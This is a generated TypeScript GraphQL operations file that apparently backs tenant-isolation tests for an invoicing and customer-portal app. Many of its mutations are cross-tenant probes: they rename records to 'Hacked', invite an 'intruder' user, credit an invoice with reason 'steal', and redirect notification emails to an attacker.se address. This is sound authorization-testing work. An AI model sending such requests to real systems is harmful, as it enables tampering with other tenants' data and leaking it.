export function graphql(source: "mutation TenantUpdateCustomer($id: ID!) { updateCustomer(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomerSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateCustomer($id: ID!) { updateCustomer(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomerSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateGroup($id: ID!) { updateGroup(input: { id: $id, name: \"Hacked\", permissions: [] }) { __typename ... on Error { code } ... on MutationUpdateGroupSuccess { data { id } } } }"): (typeof documents)["mutation TenantUpdateGroup($id: ID!) { updateGroup(input: { id: $id, name: \"Hacked\", permissions: [] }) { __typename ... on Error { code } ... on MutationUpdateGroupSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateUser($id: ID!, $groupIds: [ID!]) { updateUser(input: { id: $id, name: \"Hacked\", active: false, groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationUpdateUserSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateUser($id: ID!, $groupIds: [ID!]) { updateUser(input: { id: $id, name: \"Hacked\", active: false, groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationUpdateUserSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantCustomerPortal {\n      customerPortal {\n        number\n        name\n        invoices(first: 10) { totalCount edges { node { number pdfUrl } } }\n        projects(first: 10) { totalCount edges { node { number name } } }\n        documents(first: 10) { totalCount edges { node { name url } } }\n        documentFolders { id name }\n      }\n    }\n  "): (typeof documents)["\n    query TenantCustomerPortal {\n      customerPortal {\n        number\n        name\n        invoices(first: 10) { totalCount edges { node { number pdfUrl } } }\n        projects(first: 10) { totalCount edges { node { number name } } }\n        documents(first: 10) { totalCount edges { node { name url } } }\n        documentFolders { id name }\n      }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantInviteCustomerUser($customerId: ID!) {\n      inviteCustomerUser(customerId: $customerId, email: \"intruder@a.example\", rights: [INVOICES]) { __typename ... on Error { code } }\n    }\n  "): (typeof documents)["\n    mutation TenantInviteCustomerUser($customerId: ID!) {\n      inviteCustomerUser(customerId: $customerId, email: \"intruder@a.example\", rights: [INVOICES]) { __typename ... on Error { code } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantSetCustomerUserRights($userId: ID!) {\n      setCustomerUserRights(userId: $userId, rights: [INVOICES, PROJECTS, DOCUMENTS]) { __typename ... on Error { code } }\n    }\n  "): (typeof documents)["\n    mutation TenantSetCustomerUserRights($userId: ID!) {\n      setCustomerUserRights(userId: $userId, rights: [INVOICES, PROJECTS, DOCUMENTS]) { __typename ... on Error { code } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteCustomerUser($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteCustomerUser($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantDocumentNodes($doc: ID!, $folder: ID!, $customer: ID!) {\n      doc: node(id: $doc) { id ... on Document { name url } }\n      folder: node(id: $folder) { id ... on DocumentFolder { name } }\n      customer(id: $customer) { id documents(first: 10) { edges { node { id name } } } documentFolders { id name } }\n    }\n  "): (typeof documents)["\n    query TenantDocumentNodes($doc: ID!, $folder: ID!, $customer: ID!) {\n      doc: node(id: $doc) { id ... on Document { name url } }\n      folder: node(id: $folder) { id ... on DocumentFolder { name } }\n      customer(id: $customer) { id documents(first: 10) { edges { node { id name } } } documentFolders { id name } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantUploadCustomerDocument($input: UploadCustomerDocumentInput!) {\n      uploadCustomerDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadCustomerDocumentSuccess { data { id name folder { name } } } }\n    }\n  "): (typeof documents)["\n    mutation TenantUploadCustomerDocument($input: UploadCustomerDocumentInput!) {\n      uploadCustomerDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadCustomerDocumentSuccess { data { id name folder { name } } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantUploadProjectDocument($input: UploadProjectDocumentInput!) {\n      uploadProjectDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadProjectDocumentSuccess { data { id name } } }\n    }\n  "): (typeof documents)["\n    mutation TenantUploadProjectDocument($input: UploadProjectDocumentInput!) {\n      uploadProjectDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadProjectDocumentSuccess { data { id name } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteDocument($id: ID!) { deleteDocument(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentSuccess { data } } }"): (typeof documents)["mutation TenantDeleteDocument($id: ID!) { deleteDocument(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantCreateCustomerDocumentFolder($customerId: ID!) {\n      createCustomerDocumentFolder(input: { customerId: $customerId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateCustomerDocumentFolderSuccess { data { id } } }\n    }\n  "): (typeof documents)["\n    mutation TenantCreateCustomerDocumentFolder($customerId: ID!) {\n      createCustomerDocumentFolder(input: { customerId: $customerId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateCustomerDocumentFolderSuccess { data { id } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantCreateProjectDocumentFolder($projectId: ID!) {\n      createProjectDocumentFolder(input: { projectId: $projectId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateProjectDocumentFolderSuccess { data { id } } }\n    }\n  "): (typeof documents)["\n    mutation TenantCreateProjectDocumentFolder($projectId: ID!) {\n      createProjectDocumentFolder(input: { projectId: $projectId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateProjectDocumentFolderSuccess { data { id } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantRenameDocumentFolder($id: ID!) {\n      renameDocumentFolder(input: { id: $id, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationRenameDocumentFolderSuccess { data { id name } } }\n    }\n  "): (typeof documents)["\n    mutation TenantRenameDocumentFolder($id: ID!) {\n      renameDocumentFolder(input: { id: $id, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationRenameDocumentFolderSuccess { data { id name } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteDocumentFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentFolderSuccess { data } } }"): (typeof documents)["mutation TenantDeleteDocumentFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentFolderSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpTenantCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpTenantCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpTenantContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpTenantContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantIntSeedConnection {\n    createConnection(input: { connectorId: \"template\", name: \"Victim Ledger Conn\", sandbox: true, settings: { baseUrl: \"http://127.0.0.1:9/victim-ledger\" }, credentials: { apiKey: \"victim-api-key\" }, notificationEmails: [\"victim-int@victim.se\"] }) {\n      __typename ... on MutationCreateConnectionSuccess { data { id } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantIntSeedConnection {\n    createConnection(input: { connectorId: \"template\", name: \"Victim Ledger Conn\", sandbox: true, settings: { baseUrl: \"http://127.0.0.1:9/victim-ledger\" }, credentials: { apiKey: \"victim-api-key\" }, notificationEmails: [\"victim-int@victim.se\"] }) {\n      __typename ... on MutationCreateConnectionSuccess { data { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantConnectors { connectors { id flows { id } } }"): (typeof documents)["query TenantConnectors { connectors { id flows { id } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantConnectionFiles($id: ID!) { connectionFiles(connectionId: $id, first: 10) { edges { node { id name url sha256 } } } }"): (typeof documents)["query TenantConnectionFiles($id: ID!) { connectionFiles(connectionId: $id, first: 10) { edges { node { id name url sha256 } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    query TenantConnections {\n      connections { id name settings notificationEmails runs(first: 10) { edges { node { id error failures { id reference message } } } } }\n    }\n  "): (typeof documents)["\n    query TenantConnections {\n      connections { id name settings notificationEmails runs(first: 10) { edges { node { id error failures { id reference message } } } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateConnection { createConnection(input: { connectorId: \"template\", name: \"Intruder Conn\", settings: { baseUrl: \"http://127.0.0.1:9/a\" } }) { __typename ... on Error { code } ... on MutationCreateConnectionSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCreateConnection { createConnection(input: { connectorId: \"template\", name: \"Intruder Conn\", settings: { baseUrl: \"http://127.0.0.1:9/a\" } }) { __typename ... on Error { code } ... on MutationCreateConnectionSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateConnection($id: ID!) { updateConnection(input: { id: $id, name: \"Hacked\", active: false, notificationEmails: [\"x@attacker.se\"] }) { __typename ... on Error { code } ... on MutationUpdateConnectionSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateConnection($id: ID!) { updateConnection(input: { id: $id, name: \"Hacked\", active: false, notificationEmails: [\"x@attacker.se\"] }) { __typename ... on Error { code } ... on MutationUpdateConnectionSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteConnection($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteConnection($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantResumeConnection($id: ID!) { resumeConnection(id: $id) { __typename ... on Error { code } ... on MutationResumeConnectionSuccess { data { id } } } }"): (typeof documents)["mutation TenantResumeConnection($id: ID!) { resumeConnection(id: $id) { __typename ... on Error { code } ... on MutationResumeConnectionSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantSetConnectionFlow($id: ID!) { setConnectionFlowEnabled(id: $id, flowId: \"project-part-export\", enabled: true) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantSetConnectionFlow($id: ID!) { setConnectionFlowEnabled(id: $id, flowId: \"project-part-export\", enabled: true) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantConnectionAuthorizeUrl($id: ID!) { connectionAuthorizeUrl(id: $id, redirectUri: \"http://localhost/cb\", state: \"state-123456\") { __typename ... on Error { code } ... on MutationConnectionAuthorizeUrlSuccess { data } } }"): (typeof documents)["mutation TenantConnectionAuthorizeUrl($id: ID!) { connectionAuthorizeUrl(id: $id, redirectUri: \"http://localhost/cb\", state: \"state-123456\") { __typename ... on Error { code } ... on MutationConnectionAuthorizeUrlSuccess { data } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantAuthorizeConnection($id: ID!) { authorizeConnection(id: $id, code: \"c\", redirectUri: \"http://localhost/cb\") { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantAuthorizeConnection($id: ID!) { authorizeConnection(id: $id, code: \"c\", redirectUri: \"http://localhost/cb\") { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCheckConnection($id: ID!) { checkConnection(id: $id) { __typename ... on Error { code } ... on MutationCheckConnectionSuccess { data { ok message } } } }"): (typeof documents)["mutation TenantCheckConnection($id: ID!) { checkConnection(id: $id) { __typename ... on Error { code } ... on MutationCheckConnectionSuccess { data { ok message } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRunConnection($id: ID!) { runConnection(id: $id) { __typename ... on Error { code } ... on MutationRunConnectionSuccess { data { id } } } }"): (typeof documents)["mutation TenantRunConnection($id: ID!) { runConnection(id: $id) { __typename ... on Error { code } ... on MutationRunConnectionSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCancelConnectorRun($id: ID!) { cancelConnectorRun(id: $id) { __typename ... on Error { code } ... on MutationCancelConnectorRunSuccess { data { id status } } } }"): (typeof documents)["mutation TenantCancelConnectorRun($id: ID!) { cancelConnectorRun(id: $id) { __typename ... on Error { code } ... on MutationCancelConnectorRunSuccess { data { id status } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantReexportInvoices($id: ID!, $invoiceIds: [ID!]!) { reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) { __typename ... on Error { code } ... on MutationReexportInvoicesSuccess { data { id } } } }"): (typeof documents)["mutation TenantReexportInvoices($id: ID!, $invoiceIds: [ID!]!) { reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) { __typename ... on Error { code } ... on MutationReexportInvoicesSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantReexportSupplierInvoices($id: ID!, $supplierInvoiceIds: [ID!]!) { reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) { __typename ... on Error { code } ... on MutationReexportSupplierInvoicesSuccess { data { id } } } }"): (typeof documents)["mutation TenantReexportSupplierInvoices($id: ID!, $supplierInvoiceIds: [ID!]!) { reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) { __typename ... on Error { code } ... on MutationReexportSupplierInvoicesSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRetryConnectorFailure($id: ID!) { retryConnectorFailure(id: $id) { __typename ... on Error { code } ... on MutationRetryConnectorFailureSuccess { data { id } } } }"): (typeof documents)["mutation TenantRetryConnectorFailure($id: ID!) { retryConnectorFailure(id: $id) { __typename ... on Error { code } ... on MutationRetryConnectorFailureSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantSendInvoice($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n      sendInvoice(invoiceId: $invoiceId, method: $method) { __typename ... on Error { code } ... on MutationSendInvoiceSuccess { data { id recipient } } }\n    }\n  "): (typeof documents)["\n    mutation TenantSendInvoice($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n      sendInvoice(invoiceId: $invoiceId, method: $method) { __typename ... on Error { code } ... on MutationSendInvoiceSuccess { data { id recipient } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantInvSeedCustomer {\n    createCustomer(input: { name: \"Victim Invoice Customer\", type: PRIVATE, contacts: [{ name: \"Victim Buyer\", personalIdentityNumber: \"200001012392\", propertyDesignation: \"VICTIM 1:1\" }] }) {\n      __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 1) { edges { node { id } } } } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantInvSeedCustomer {\n    createCustomer(input: { name: \"Victim Invoice Customer\", type: PRIVATE, contacts: [{ name: \"Victim Buyer\", personalIdentityNumber: \"200001012392\", propertyDesignation: \"VICTIM 1:1\" }] }) {\n      __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 1) { edges { node { id } } } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantInvSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Invoice Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantInvSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Invoice Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantInvSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, title: \"Victim invoice title\", taxReductionType: ROT, lines: [{ description: \"Victim line\", quantity: \"1\", unitPrice: \"98765.43\", kind: LABOUR }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantInvSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, title: \"Victim invoice title\", taxReductionType: ROT, lines: [{ description: \"Victim line\", quantity: \"1\", unitPrice: \"98765.43\", kind: LABOUR }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantInvSeedBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantInvSeedBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantInvSeedLocked($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, contractorVat: false, lines: [{ description: \"Victim locked line\", quantity: \"1\", unitPrice: \"4242.42\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id } }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantInvSeedLocked($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, contractorVat: false, lines: [{ description: \"Victim locked line\", quantity: \"1\", unitPrice: \"4242.42\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantInvSeedLock($id: ID!) { lockInvoice(id: $id) { __typename } }"): (typeof documents)["mutation TenantInvSeedLock($id: ID!) { lockInvoice(id: $id) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvSeedStatuses { invoiceStatuses { id } }"): (typeof documents)["query TenantInvSeedStatuses { invoiceStatuses { id } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvoiceStatuses { invoiceStatuses { id code name } }"): (typeof documents)["query TenantInvoiceStatuses { invoiceStatuses { id code name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvoice($id: ID!) { invoice(id: $id) { id title } }"): (typeof documents)["query TenantInvoice($id: ID!) { invoice(id: $id) { id title } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvoiceByNumber { invoiceByNumber(number: 1) { id title lines { description } } }"): (typeof documents)["query TenantInvoiceByNumber { invoiceByNumber(number: 1) { id title lines { description } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvoiceByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id title ocrReference } }"): (typeof documents)["query TenantInvoiceByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id title ocrReference } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantInvoices { invoices(first: 200) { totalCount edges { node { id title total lines { description } buyers { name } } } } }"): (typeof documents)["query TenantInvoices { invoices(first: 200) { totalCount edges { node { id title total lines { description } buyers { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateInvoice($projectId: ID!) { createInvoice(input: { projectId: $projectId }) { __typename ... on Error { code } ... on MutationCreateInvoiceSuccess { data { id } } } }"): (typeof documents)["mutation TenantCreateInvoice($projectId: ID!) { createInvoice(input: { projectId: $projectId }) { __typename ... on Error { code } ... on MutationCreateInvoiceSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateInvoice($id: ID!) { updateInvoice(input: { id: $id, title: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceSuccess { data { id title } } } }"): (typeof documents)["mutation TenantUpdateInvoice($id: ID!) { updateInvoice(input: { id: $id, title: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceSuccess { data { id title } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantAddInvoiceLine($invoiceId: ID!) { addInvoiceLine(invoiceId: $invoiceId, input: { description: \"x\", quantity: \"1\", unitPrice: \"1\" }) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantAddInvoiceLine($invoiceId: ID!) { addInvoiceLine(invoiceId: $invoiceId, input: { description: \"x\", quantity: \"1\", unitPrice: \"1\" }) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateInvoiceLine($id: ID!) { updateInvoiceLine(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceLineSuccess { data { description } } } }"): (typeof documents)["mutation TenantUpdateInvoiceLine($id: ID!) { updateInvoiceLine(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceLineSuccess { data { description } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRemoveInvoiceLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantRemoveInvoiceLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantWorkTypes($lineId: ID!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: []) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantWorkTypes($lineId: ID!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: []) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantSetBuyers($invoiceId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: []) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantSetBuyers($invoiceId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: []) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantReady($id: ID!) { setInvoiceReadyForInvoice(id: $id, ready: true) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantReady($id: ID!) { setInvoiceReadyForInvoice(id: $id, ready: true) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCredit($id: ID!) { creditInvoice(id: $id, reason: \"steal\") { __typename ... on Error { code } ... on MutationCreditInvoiceSuccess { data { id lines { description } } } } }"): (typeof documents)["mutation TenantCredit($id: ID!) { creditInvoice(id: $id, reason: \"steal\") { __typename ... on Error { code } ... on MutationCreditInvoiceSuccess { data { id lines { description } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateInvoiceStatus { createInvoiceStatus(code: 77, name: \"Attacker\") { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantCreateInvoiceStatus { createInvoiceStatus(code: 77, name: \"Attacker\") { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteInvoiceStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteInvoiceStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantMySessions { mySessions { id user { id email } } }"): (typeof documents)["query TenantMySessions { mySessions { id user { id email } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantLogin($input: LoginInput!) {\n      login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename } } }\n    }\n  "): (typeof documents)["\n    mutation TenantLogin($input: LoginInput!) {\n      login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename } } }\n    }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n    mutation TenantCompleteLogin($challenge: String!, $code: String!) { completeLogin(challenge: $challenge, code: $code) { __typename ... on Error { code } } }\n  "): (typeof documents)["\n    mutation TenantCompleteLogin($challenge: String!, $code: String!) { completeLogin(challenge: $challenge, code: $code) { __typename ... on Error { code } } }\n  "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRefreshSession($t: String!) { refreshSession(refreshToken: $t) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantRefreshSession($t: String!) { refreshSession(refreshToken: $t) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
